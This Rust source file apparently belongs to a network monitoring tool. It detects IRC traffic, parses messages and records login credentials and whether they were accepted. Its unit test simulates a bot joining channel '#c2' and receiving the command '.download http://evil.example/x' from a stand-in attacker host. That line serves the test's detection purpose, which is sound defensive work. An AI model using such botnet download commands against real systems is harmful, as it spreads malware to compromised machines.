//! Internet Relay Chat (RFC 2812): who joins and says what.

use wire::{Direction, IpProto};

use crate::lines::{Line, Lines, begins, find, may_begin, text, word};
use crate::login::{Login, Outcome, Secret};
use crate::parser::{Chunk, Parser, Sink, Step, complete};
use crate::registry::{AppProto, Guess, Opening, Protocol};
use crate::sasl::credential;

/// Bytes of a line: 512 of a message (RFC 2812 section 2.3) and as many of tags.
pub const MAX_LINE: usize = 1024;
/// Parameters kept of a message.
pub const MAX_PARAMETERS: usize = 15;

/// Messages that are told; the rest is the protocol's own business. Numbers: welcome, topic, names taken, bad password.
const TOLD: [&str; 17] = [
    "NICK", "USER", "OPER", "JOIN", "PART", "TOPIC", "KICK", "MODE", "INVITE", "PRIVMSG", "NOTICE", "QUIT",
    "ERROR", "001", "332", "433", "464",
];

/// A message.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Irc {
    /// The server sent it.
    pub from_server: bool,
    /// From whom, if it says.
    pub prefix: Option<String>,
    /// The command in capitals, or a number.
    pub command: String,
    /// Its parameters; secrets are left out.
    pub parameters: Vec<String>,
}

/// IRC, on any port.
pub(crate) static PROTOCOL: Protocol = Protocol {
    app: AppProto::Irc,
    transport: IpProto::TCP,
    ports: &[6667, 6666, 6668, 6669],
    probe,
    open: Some(|_| Box::<IrcParser>::default()),
};

fn probe(opening: &Opening<'_>) -> Guess {
    let (client, server) = (opening.client(), opening.server());
    let ended = |bytes: &[u8]| bytes.contains(&b'\n');
    let first = |bytes: &'_ [u8]| bytes.iter().position(|&b| b == b'\n').unwrap_or(bytes.len());
    if (server.starts_with(b":") || begins(server, b"NOTICE AUTH")) && ended(server) {
        let line = &server[..first(server)];
        if [&b" NOTICE "[..], b"NOTICE AUTH", b" 001 ", b" 020 "].iter().any(|n| find(line, n).is_some()) {
            return Guess::Yes;
        }
    }
    let begins_with = [&b"NICK "[..], b"CAP LS"];
    if begins_with.iter().any(|b| begins(client, b)) && ended(client) {
        return Guess::Yes;
    }
    // USER and PASS stand in other protocols too: "USER name mode unused :real name" does not.
    if (begins(client, b"USER ") || begins(client, b"PASS ")) && !server.starts_with(b"220") {
        let line = &client[..first(client)];
        if ended(client) && find(line, b" :").is_some() && line.iter().filter(|&&b| b == b' ').count() >= 4 {
            return Guess::Yes;
        }
        if find(client, b"\nNICK ").is_some() {
            return Guess::Yes;
        }
        return if client.len() < MAX_LINE && !server.starts_with(b"+OK") { Guess::More } else { Guess::No };
    }
    let possible = [&b"NICK "[..], b"CAP LS", b"USER ", b"PASS "];
    if possible.iter().any(|p| begins(client, p) || may_begin(client, p))
        || may_begin(server, b"NOTICE AUTH")
        || (server.starts_with(b":") && !ended(server))
    {
        return Guess::More;
    }
    Guess::No
}

/// See [`crate::Parser`].
#[derive(Debug, Default)]
struct IrcParser {
    lines: [Lines; 2],
    nick: Option<String>,
    open: Option<Login>,
    limits_hit: u32,
}

impl IrcParser {
    fn message(&mut self, line: &Line<'_>, from_server: bool, sink: &mut dyn Sink) {
        self.limits_hit += u32::from(line.cut);
        let mut rest = line.text.trim_ascii();
        if rest.starts_with(b"@") {
            rest = word(rest).1;
        }
        let mut prefix = None;
        if let Some(behind) = rest.strip_prefix(b":") {
            let (who, behind) = word(behind);
            prefix = Some(text(who));
            rest = behind;
        }
        let (command, mut rest) = word(rest);
        let command = text(command).to_ascii_uppercase();
        let mut parameters = Vec::new();
        while !rest.is_empty() && parameters.len() < MAX_PARAMETERS {
            if let Some(last) = rest.strip_prefix(b":") {
                parameters.push(text(last));
                break;
            }
            let (one, behind) = word(rest);
            parameters.push(text(one));
            rest = behind;
        }
        if from_server {
            match command.as_str() {
                "001" | "381" => self.end_login(Outcome::Accepted, sink),
                "464" | "491" => self.end_login(Outcome::Refused, sink),
                _ => {}
            }
        } else {
            self.client(&command, &mut parameters, sink);
        }
        if TOLD.contains(&command.as_str()) {
            complete(Irc { from_server, prefix, command, parameters }.into(), sink);
        }
    }

    fn client(&mut self, command: &str, parameters: &mut Vec<String>, sink: &mut dyn Sink) {
        let login = |method, user: Option<String>, secret: &String| Login {
            service: AppProto::Irc,
            method,
            user,
            secret: Some(Secret::new(credential(secret.as_bytes()))),
            outcome: Outcome::Unknown,
        };
        match (command, parameters.as_slice()) {
            ("NICK", [nick, ..]) => self.nick = Some(credential(nick.as_bytes())),
            ("PASS", [secret, ..]) => {
                self.end_login(Outcome::Unknown, sink);
                self.open = Some(login("pass", None, secret));
            }
            ("OPER", [user, secret, ..]) => {
                self.end_login(Outcome::Unknown, sink);
                self.open = Some(login("oper", Some(credential(user.as_bytes())), secret));
                parameters.truncate(1);
            }
            _ => {}
        }
    }

    fn end_login(&mut self, outcome: Outcome, sink: &mut dyn Sink) {
        if let Some(mut login) = self.open.take() {
            login.user = login.user.or_else(|| self.nick.clone());
            complete(Login { outcome, ..login }.into(), sink);
        }
    }
}

impl Parser for IrcParser {
    fn data(&mut self, chunk: Chunk<'_>, sink: &mut dyn Sink) -> Step {
        let mut bytes = chunk.bytes;
        while let Some(line) = self.lines[chunk.direction.index()].next(&mut bytes, MAX_LINE) {
            self.message(&line, chunk.direction == Direction::ToClient, sink);
        }
        Step::More
    }

    fn gap(&mut self, direction: Direction, _: u64, _: &mut dyn Sink) -> Step {
        self.lines[direction.index()].lose();
        Step::More
    }

    fn close(&mut self, sink: &mut dyn Sink) {
        self.end_login(Outcome::Unknown, sink);
    }

    fn limits_hit(&self) -> u32 {
        self.limits_hit
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::text_testing::{ToClient, ToServer, talk};
    use crate::transaction::Transaction;

    #[test]
    fn who_says_what_is_told_in_any_pieces() {
        let turns: &[(Direction, &[u8])] = &[
            (ToServer, b"PASS l0m3\r\nNICK bot-1\r\nUSER x 0 0 :y z\r\n"),
            (ToClient, b":irc.example 001 bot-1 :Welcome\r\nPING :1\r\n"),
            (ToServer, b"PONG :1\r\nJOIN #c2 key\r\n"),
            (ToClient, b"@t=1 :op!u@h PRIVMSG #c2 :.download http://evil.example/x\r\n"),
        ];
        for step in [1, 2, 7, 1000] {
            let (log, app) = talk(7000, step, turns);
            assert_eq!(app.protocol(), Some(AppProto::Irc));
            let got: Vec<_> = log
                .logged
                .iter()
                .filter_map(|t| if let Transaction::Irc(i) = t { Some(i) } else { None })
                .map(|i| (i.from_server, i.command.as_str(), i.parameters.last().unwrap().as_str()))
                .collect();
            let want = [
                (false, "NICK", "bot-1"),
                (false, "USER", "y z"),
                (true, "001", "Welcome"),
                (false, "JOIN", "key"),
                (true, "PRIVMSG", ".download http://evil.example/x"),
            ];
            assert_eq!(got, want, "pieces of {step}");
            let login = log.logins().next().unwrap();
            assert_eq!((login.user.as_deref(), login.outcome), (Some("bot-1"), Outcome::Accepted));
        }
    }
}
